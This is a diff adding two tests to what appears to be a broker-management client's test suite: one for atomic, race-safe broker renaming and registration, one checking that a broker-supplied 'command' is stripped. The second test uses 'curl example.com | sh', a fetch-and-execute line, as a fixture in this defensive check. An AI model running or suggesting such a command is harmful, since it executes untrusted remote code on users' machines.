@@ -168,6 +168,43 @@ test('new credentials are tried first; another address needs them again', async 
   }
 });
 
+test('a change is made as a whole or not at all, whoever else changes brokers meanwhile', async () => {
+  const { url } = t.broker;
+  const { id } = await t.client.registerBroker({ name: 'whole', url, ...login() });
+  const other = await t.client.registerBroker({ name: 'other', url, ...login() });
+  const before = await t.client.brokers();
+  const nobody = ['00000000-0000-4000-8000-000000000000'];
+  await expect(t.client.changeBroker(id, { name: 'half', teamIds: nobody })).rejects.toThrow(/no team/);
+  // While its new credentials are tried, another one gets the name.
+  const { arrived, go } = t.broker.hold('catalog');
+  const changing = t.client.changeBroker(id, { name: 'wanted', password: t.broker.password });
+  changing.catch(() => undefined);
+  await arrived;
+  await t.client.changeBroker(other.id, { name: 'WANTED' });
+  go();
+  await expect(changing).rejects.toThrow(/taken/);
+  expect((await t.client.brokers()).find((broker) => broker.id === id)).toEqual(
+    before.find((broker) => broker.id === id),
+  );
+  // Two register at once under one name: one of them does.
+  const both = await Promise.allSettled(
+    ['twin', 'Twin'].map((name) => t.client.registerBroker({ name, url, ...login() })),
+  );
+  expect(both.map(({ status }) => status).toSorted()).toEqual(['fulfilled', 'rejected']);
+  for (const broker of await t.client.brokers())
+    if (broker.id !== t.brokerId) await t.client.deregisterBroker(broker.id);
+});
+
+test('a broker that did not come with Hippo says what is missing, and not what to run', async () => {
+  const unavailable = { reason: 'Its server is missing.', command: 'curl example.com | sh' };
+  t.broker.services = [service({ metadata: { unavailable } })];
+  await t.client.refreshBroker(t.brokerId);
+  const [offering] = await t.client.offerings();
+  expect(offering!.unavailable).toEqual({ reason: 'Its server is missing.', command: null });
+  t.broker.services = [service()];
+  await t.client.refreshBroker(t.brokerId);
+});
+
 describe('pictures', () => {
   const png = Buffer.from('89504e470d0a1a0a00', 'hex');
   let asked = 0;
